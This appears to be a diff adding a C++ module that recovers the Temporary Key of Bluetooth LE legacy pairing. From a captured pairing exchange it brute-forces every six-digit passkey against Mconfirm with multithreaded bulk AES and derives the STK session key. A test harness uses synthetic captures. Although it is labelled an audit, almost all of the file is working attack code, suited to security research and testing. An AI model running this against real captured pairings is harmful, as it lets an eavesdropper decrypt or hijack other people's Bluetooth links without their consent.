@@ -0,0 +1,206 @@
+/****************************************************************/
+/* Legacy pairing TK audit                                      */
+/* A legacy TK is a six digit passkey at most, so a captured    */
+/* Mconfirm gives it away: c1 is two AES blocks per candidate.  */
+/* Threads take chunks of passkeys from a shared counter; each  */
+/* chunk is expanded in bulk into a key table and both c1       */
+/* steps run as multi-lane AesEncryptBlocksTable calls. The     */
+/* first match stops every thread.                              */
+/****************************************************************/
+#include "stdafx.h"
+#include <atomic>
+#include <thread>
+#include "aes_encrypt.h"
+#include "ble_smp_crypto.h"
+#include "ble_tk_audit.h"
+#include "crypto_helper.h"
+
+// Passkeys per chunk: one key table fill and two block calls
+#define BT_TK_AUDIT_CHUNK		1024
+
+typedef struct _BT_TK_AUDIT
+{
+	const BT_LEGACY_CAPTURE *Capture;
+	unsigned char Block1[16];		// Mrand XOR p1, the same for every TK
+	unsigned char P2[16];
+	std::atomic<unsigned int> Next;	// first passkey of the next chunk
+	std::atomic<int> Found;			// matching passkey, or -1
+	std::atomic<unsigned int> Tried;
+} BT_TK_AUDIT;
+
+// TK = passkey as a 128 bit value, MSB first
+static void PasskeyTk(unsigned int Passkey, unsigned char tk[16])
+{
+	memset(tk, 0, 16);
+	tk[12] = (unsigned char)(Passkey >> 24);
+	tk[13] = (unsigned char)(Passkey >> 16);
+	tk[14] = (unsigned char)(Passkey >> 8);
+	tk[15] = (unsigned char)Passkey;
+}
+
+static void AuditMain(BT_TK_AUDIT *a)
+{
+	AES_KEY_TABLE table;
+	unsigned char *blocks = (unsigned char *)AlignedAlloc(BT_TK_AUDIT_CHUNK * 16, 64);
+	int index[BT_TK_AUDIT_CHUNK];
+	unsigned char (*tk)[16] = (unsigned char (*)[16])AlignedAlloc(BT_TK_AUDIT_CHUNK * 16, 64);
+	unsigned int first;
+	int n, i;
+
+	if (blocks == NULL || tk == NULL || !AesKeyTableInit(&table, BT_TK_AUDIT_CHUNK))
+	{
+		AlignedFree(blocks);
+		AlignedFree(tk);
+		return;
+	}
+	for (i = 0; i < BT_TK_AUDIT_CHUNK; i++) index[i] = i;
+
+	while (a->Found.load(std::memory_order_relaxed) < 0)
+	{
+		first = a->Next.fetch_add(BT_TK_AUDIT_CHUNK, std::memory_order_relaxed);
+		if (first >= BT_TK_AUDIT_PASSKEYS) break;
+		n = BT_TK_AUDIT_PASSKEYS - first < BT_TK_AUDIT_CHUNK ? BT_TK_AUDIT_PASSKEYS - first : BT_TK_AUDIT_CHUNK;
+
+		// c1 = e(TK, e(TK, Mrand XOR p1) XOR p2) for n TKs side by side
+		for (i = 0; i < n; i++)
+		{
+			PasskeyTk(first + i, tk[i]);
+			memcpy(blocks + 16 * i, a->Block1, 16);
+		}
+		table.Count = 0;				// the table is refilled for every chunk
+		if (AesKeyTableAdd(&table, tk, n) < 0) break;
+		AesEncryptBlocksTable(&table, index, blocks, blocks, n);
+		for (i = 0; i < n; i++) xor_128(blocks + 16 * i, a->P2, blocks + 16 * i);
+		AesEncryptBlocksTable(&table, index, blocks, blocks, n);
+
+		for (i = 0; i < n; i++)
+		{
+			if (memcmp(blocks + 16 * i, a->Capture->Mconfirm, 16) == 0)
+			{
+				int none = -1;
+				a->Found.compare_exchange_strong(none, (int)(first + i));
+				break;
+			}
+		}
+		a->Tried.fetch_add(n, std::memory_order_relaxed);
+	}
+
+	AesKeyTableFree(&table);
+	AlignedFree(blocks);
+	AlignedFree(tk);
+}
+
+int Bt_TkAuditSearch(
+	const BT_LEGACY_CAPTURE *pCapture,
+	int Threads,
+	BT_TK_AUDIT_RESULT *pResult
+	)
+{
+	BT_LEGACY_CAPTURE c = *pCapture;
+	BT_TK_AUDIT a;
+	BT_SMP_LEGACY ctx;
+	std::thread workers[BT_TK_AUDIT_MAX_THREADS];
+	unsigned char zero[16] = { 0 };
+	int i;
+
+	if (Threads < 1) Threads = (int)std::thread::hardware_concurrency();
+	if (Threads < 1) Threads = 1;
+	if (Threads > BT_TK_AUDIT_MAX_THREADS) Threads = BT_TK_AUDIT_MAX_THREADS;
+
+	// p1 and p2 do not depend on TK; borrow them from a legacy context
+	Bt_SMP_LegacyInit(&ctx, zero, c.Pres, c.Preq, c.Iat, c.Ia, c.Rat, c.Ra);
+	a.Capture = pCapture;
+	xor_128(c.Mrand, ctx.P1, a.Block1);
+	memcpy(a.P2, ctx.P2, 16);
+	a.Next = 0;
+	a.Found = -1;
+	a.Tried = 0;
+
+	for (i = 0; i < Threads; i++) workers[i] = std::thread(AuditMain, &a);
+	for (i = 0; i < Threads; i++) workers[i].join();
+
+	memset(pResult, 0, sizeof(BT_TK_AUDIT_RESULT));
+	pResult->Tried = a.Tried.load();
+	if (a.Found.load() < 0)
+	{
+		// a worker that could not get its buffers leaves its chunks unchecked
+		return pResult->Tried == BT_TK_AUDIT_PASSKEYS ? 0 : -1;
+	}
+
+	pResult->Found = 1;
+	pResult->Passkey = (unsigned int)a.Found.load();
+	PasskeyTk(pResult->Passkey, pResult->Tk);
+	if (c.HasSrand)
+	{
+		Bt_SMP_s1(pResult->Tk, c.Srand, c.Mrand, pResult->Stk);
+	}
+	return 1;
+}
+
+
+/************************************************************************************/
+//				Function Tester
+/************************************************************************************/
+/**
+	Captures made with the c1 sample pairing data: one under passkey 742519,
+	one under Just Works, and one whose Mconfirm no TK produces. The first
+	two must give back their TK and STK = s1(TK, Srand, Mrand); the last
+	must search all 10^6 candidates and find nothing.
+*/
+static void TkAuditCapture(BT_LEGACY_CAPTURE *c, unsigned int Passkey)
+{
+	unsigned char r[16] = { 0x57, 0x83, 0xD5, 0x21, 0x56, 0xAD, 0x6F, 0x0E, 0x63, 0x88, 0x27, 0x4E, 0xC6, 0x70, 0x2E, 0xE0 };
+	unsigned char srand[16] = { 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x99, 0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF, 0x00 };
+	unsigned char preq[7] = { 0x07, 0x07, 0x10, 0x00, 0x00, 0x01, 0x01 };
+	unsigned char pres[7] = { 0x05, 0x00, 0x08, 0x00, 0x00, 0x03, 0x02 };
+	unsigned char ia[6] = { 0xA1, 0xA2, 0xA3, 0xA4, 0xA5, 0xA6 };
+	unsigned char ra[6] = { 0xB1, 0xB2, 0xB3, 0xB4, 0xB5, 0xB6 };
+	unsigned char tk[16];
+
+	memcpy(c->Preq, preq, 7);
+	memcpy(c->Pres, pres, 7);
+	c->Iat = 0x01;
+	memcpy(c->Ia, ia, 6);
+	c->Rat = 0x00;
+	memcpy(c->Ra, ra, 6);
+	memcpy(c->Mrand, r, 16);
+	memcpy(c->Srand, srand, 16);
+	c->HasSrand = 1;
+	PasskeyTk(Passkey, tk);
+	Bt_SMP_c1(tk, c->Mrand, c->Pres, c->Preq, c->Iat, c->Ia, c->Rat, c->Ra, c->Mconfirm);
+}
+
+static void TkAuditReport(const char *pName, BT_LEGACY_CAPTURE *c)
+{
+	BT_TK_AUDIT_RESULT res;
+	unsigned char stk[16];
+
+	printf("%-15s", pName);
+	switch (Bt_TkAuditSearch(c, 0, &res))
+	{
+	case 0:
+		printf("not found, %u tried\n", res.Tried);
+		return;
+	case -1:
+		printf("search incomplete, %u tried\n", res.Tried);
+		return;
+	}
+	Bt_SMP_s1(res.Tk, c->Srand, c->Mrand, stk);
+	printf("passkey %06u\n", res.Passkey);
+	printf("  TK           "); print128(res.Tk); printf("\n");
+	printf("  STK          "); print128(res.Stk); printf(" %s\n", memcmp(stk, res.Stk, 16) == 0 ? "match" : "MISMATCH");
+}
+
+void Bt_TkAudit_Test()
+{
+	BT_LEGACY_CAPTURE c;
+
+	printf("--------------------------------------------------\n");
+	TkAuditCapture(&c, 742519);
+	TkAuditReport("Passkey", &c);
+	TkAuditCapture(&c, 0);
+	TkAuditReport("Just Works", &c);
+	c.Mconfirm[0] ^= 0x01;
+	TkAuditReport("Tampered", &c);
+	printf("--------------------------------------------------\n");
+}